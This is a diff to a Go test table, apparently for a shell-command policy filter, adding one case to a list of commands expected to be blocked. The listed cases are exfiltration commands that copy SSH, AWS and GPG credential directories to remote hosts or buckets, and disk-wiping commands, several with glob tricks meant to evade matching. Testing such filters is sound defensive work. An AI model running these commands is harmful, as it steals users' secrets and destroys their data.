@@ -107,6 +107,7 @@ func TestLead55Variants(t *testing.T) {
 		{`aws s3 sync ~/.aw* s3://drop/a`, dsl.Block, dsl.Block},
 		{`rsync -az $HOME/.ss*/ u@x.example:k/`, dsl.Block, dsl.Block},
 		{`duplicity ~/.*pg sftp://x.example/b`, dsl.Block, dsl.Block},
+		{`gsutil -m cp -r ~/./.ss* gs://b/`, dsl.Block, dsl.Block},
 		{`wipefs -a /d?v/sda`, dsl.Block, dsl.Block},
 		{`badblocks -wsv /de[v]/sdb`, dsl.Block, dsl.Block},
 		{`mkfs.xfs /dev/nvm?0n1`, dsl.Block, dsl.Block},
